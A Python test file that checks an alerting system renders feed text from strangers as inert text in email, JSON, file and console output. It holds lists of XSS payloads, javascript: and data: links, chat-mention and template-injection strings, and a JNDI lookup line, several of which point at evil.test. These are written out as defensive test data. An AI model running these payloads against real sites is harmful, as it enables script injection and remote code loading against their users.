"""Markup, links, chat commands and template code of strangers, in every look."""

from __future__ import annotations

import email
import json
import re
from email import policy
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from lxml import html

from alerts.messages import render
from alerts.rendering.clean import one_line, visible
from crawler.errors import ParseError
from crawler.feeds import parse_feed
from tests.alerts.letters import DESK, HOOK, HOSTILE, LOG, SCREEN, item, letter, telling
from tests.alerts.poison import EVERYWHERE, FIELDS, poisoned

if TYPE_CHECKING:
    from alerts.model import Channel, Letter

DATA = Path(__file__).parents[2].parent / "shared" / "data"
SANITIZE = DATA / "feeds" / "feedparser" / "tests" / "wellformed" / "sanitize"
BLNS = DATA / "badinput" / "blns" / "blns.json"
corpus = pytest.mark.corpus

TAGS = frozenset(
    {"html", "head", "meta", "title", "body", "div", "p", "h1", "h2", "h3"}
    | {"span", "b", "a", "mark", "ul", "li", "bdi", "br"}
)
ATTRIBUTES = frozenset(
    {"style", "href", "rel", "lang", "dir", "charset", "name", "content"}
)
REL = "noopener noreferrer nofollow"

MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt\x0csrc=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='//evil.test/pixel.gif' width=1>",
    "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<style>@import '//evil.test/x.css';*{background:url(//evil.test/)}</style>",
    "<form action=//evil.test><input name=q autofocus onfocus=alert(1)><button>Go",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.test></object><embed src=//evil.test><applet code=x>",
    "<video poster=//evil.test/p.png><source onerror=alert(1)></video>",
    "<body background=//evil.test/b.png onload=alert(1)>",
    "<table background='//evil.test/t.png'><td style=\"background:url('//evil.test')\">",
    "<a href=javascript:alert(1)>x</a><a href='data:text/html,<script>'>y</a>",
    "<details open ontoggle=alert(1)><summary>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "</title></head></style></script>--><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[<script>]]><?php x ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62; &amp;lt;b&amp;gt;",
    '" onmouseover=alert(1) x="',
    "' onfocus='alert(1)",
    "` onclick=alert(1) `",
    'en" onmouseover="alert(1)',
    "expression(alert(1)); url(javascript:alert(1)); -moz-binding:url(//evil.test)",
    "<a\u00a0href=x><a\u200bhref=x><\u0131mg src=x onerror=alert(1)>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\x00script>alert(1)</script>",
    "<img src=x onerror=alert(1)//" + "x" * 3000,
)
"""Of every family that DOMPurify's and OWASP's lists know; the words are ours."""


class Seen(HTMLParser):
    """A second reader, which goes by the tokens and repairs nothing."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.odd: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    def handle_pi(self, data: str) -> None:
        self.odd.append(data)

    def unknown_decl(self, data: str) -> None:
        self.odd.append(data)


def page_of(of: Letter) -> str:
    body = email.message_from_bytes(render(of), policy=policy.SMTP).get_body(("html",))
    assert body is not None
    text = body.get_content()
    assert isinstance(text, str)
    return text


def check(page: str) -> None:
    """Only our tags and attributes, only links to the web, nothing that loads."""
    tokens = Seen()
    tokens.feed(page)
    tokens.close()
    assert tokens.odd == []
    tree = [(str(t.tag), dict(t.attrib)) for t in html.document_fromstring(page).iter()]
    for name, attributes in (*tokens.tags, *tree):
        assert name in TAGS
        assert attributes.keys() <= ATTRIBUTES
        assert "url(" not in (attributes.get("style") or "")
        if name == "a":
            assert re.match(r"https?://[^/]", attributes["href"] or "")
            assert attributes["rel"] == REL
        else:
            assert "href" not in attributes
        if name == "meta":
            assert attributes.keys() <= {"charset", "name", "content"}


@pytest.mark.parametrize("field", [*FIELDS, EVERYWHERE])
def test_markup_in_any_field_is_text_in_the_mail(field: str) -> None:
    """A48, A51: no tag, handler, style or remote load of theirs; the words stay."""
    # All of it once for all fields; a few for each, so that none hides another.
    whole = field == EVERYWHERE
    for words in (*MARKUP, *HOSTILE) if whole else MARKUP[::7]:
        for of in poisoned(DESK, words, field):
            check(page_of(of))
    if field in {"title", "headline"}:
        for words in MARKUP[:6]:
            page = html.document_fromstring(page_of(poisoned(DESK, words, field)[0]))
            assert one_line(words, limit=160) in page.text_content()


LINKS = (
    "javascript:alert(1)",
    " javascript:alert(1)",
    " java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "view-source:https://a.example/",
    "blob:https://a.example/x",
    "file:///etc/hostname",
    "mailto:evil@example.net",
    "//evil.test/x",
    "\\\\evil.test\\x",
    "/relative",
    "?q",
    "#fragment",
    "",
    "https:",
    "https://",
    "https:///x",
    "https:evil.test",
    "http:/evil.test",
    "http://[::1",
    'https://a.example/"onclick=alert(1)',
    "https://a.example/'onclick=alert(1)",
    "https://a.example/ x",
    "https://a.example/\r\nx",
    "https://a.example/\u202ex",
    "https://a.example\\@evil.test/",
)


@pytest.mark.parametrize("url", LINKS)
def test_what_is_no_link_to_the_web_is_a_link_nowhere(url: str) -> None:
    """A49: in openings, follow-ups, timelines and digests of every look."""
    for of in poisoned(DESK, url, "url"):
        page = page_of(of)
        check(page)
        assert "<a " not in page
    for of in poisoned(HOOK, url, "url"):
        data = json.loads(render(of))["data"]
        for one in data.get("alerts", [data]):
            assert one["item"]["url"] is None
    plain = letter(SCREEN, telling(item(url=url)))
    assert not url.strip() or url.strip() not in render(plain).decode()


CHAT = (
    "@everyone @here <!channel> <!here> <@U024BE7LH> <#C024BE7LR>",
    "[click](javascript:alert(1)) **bold** _it_ ~s~ `code` ```block``` > quote",
    "<https://evil.test|your bank> <mailto:a@b.test|x>",
    '<b>bold</b><a href="tg://user?id=1">x</a><tg-spoiler>y</tg-spoiler>',
    "||spoiler|| # heading - item 1. item ![](https://evil.test/p.png)",
)
CODE = (
    "{{7*7}} {{config}} {% import os %} {#x#}",
    "{0.__class__.__mro__} {topic} {headline!r:>99999}",
    "%(x)s %s %99999d %n $x ${x} $(id) `id` #{7*7} <%= 7*7 %> @{7*7}",
    "${jndi:ldap://evil.test/a} ${env:HOME} $HOME ~root",
    "\\1 \\g<0> \\N{BULLET} \\u0041 &#65; %41 =41",
)


@pytest.mark.parametrize("words", [*CHAT, *CODE])
@pytest.mark.parametrize("channel", [DESK, HOOK, LOG, SCREEN], ids=lambda c: c.kind)
def test_chat_commands_and_template_code_are_told_letter_by_letter(
    channel: Channel, words: str
) -> None:
    """A53, A54: in mail, JSON, file and on the console; there are no user templates."""
    for field in ("title", "headline", "report", "topic title"):
        for of in poisoned(channel, words, field):
            render(of)
    of = letter(channel, telling(item(words)))
    if channel is DESK:
        mail = email.message_from_bytes(render(of), policy=policy.SMTP)
        half = mail.get_body(("plain",))
        assert half is not None
        assert words in half.get_content()
        assert words in html.document_fromstring(page_of(of)).text_content()
        assert words in mail["Subject"]
    elif channel is SCREEN:
        assert words in render(of).decode()
    else:
        data = json.loads(render(of))["data"]
        assert data["item"]["title"] == data["story"]["headline"] == words


@corpus
@pytest.mark.slow
@pytest.mark.skipif(not SANITIZE.is_dir(), reason=f"{SANITIZE} is absent")
def test_the_files_feedparser_sanitises_are_text_in_the_mail() -> None:
    """A48: 745 files, raw as a title and as our own reader reads them."""
    files = sorted(SANITIZE.glob("*.xml"))
    read = 0
    for path in files:
        body = path.read_bytes()
        raw = body.decode("utf-8", "replace")
        inside = raw[raw.find("<feed") :]
        for start in range(0, min(len(inside), 1200), 400):
            check(page_of(letter(DESK, telling(item(inside[start : start + 400])))))
        try:
            entries = parse_feed(
                body,
                url="https://feeds.example/x",
                content_type=None,
                timezone="UTC",
                language="en",
            )
        except ParseError:
            continue
        for entry in entries:
            about = item(
                entry.title,
                f"{entry.text} 북한 {entry.summary}",
                summary=entry.summary,
                url=entry.url,
                authors=entry.authors,
            )
            page = page_of(letter(DESK, telling(about)))
            check(page)
            read += 1
            # What the reader passed on as text is no markup either.
            for part in (entry.title, entry.summary, entry.text, *entry.authors):
                assert not re.search(r"(?i)<\s*(script|img|svg|style|iframe)\b", part)
    assert len(files) > 700
    assert read > 500


@corpus
@pytest.mark.skipif(not BLNS.is_file(), reason=f"{BLNS} is absent")
def test_every_naughty_string_is_text_in_the_mail_and_whole_in_the_json() -> None:
    """A48, A53, A54: 515 strings that break programs, as title and headline."""
    strings = json.loads(BLNS.read_bytes())
    assert len(strings) > 400
    for words in strings:
        check(page_of(letter(DESK, telling(item(words, text=f"{words} 북한 {words}")))))
        data = json.loads(render(letter(HOOK, telling(item(words)))))["data"]
        assert data["item"]["title"] == words
        block = render(letter(SCREEN, telling(item(words)))).decode()
        assert visible(block.replace("\n", "")) == block.replace("\n", "")
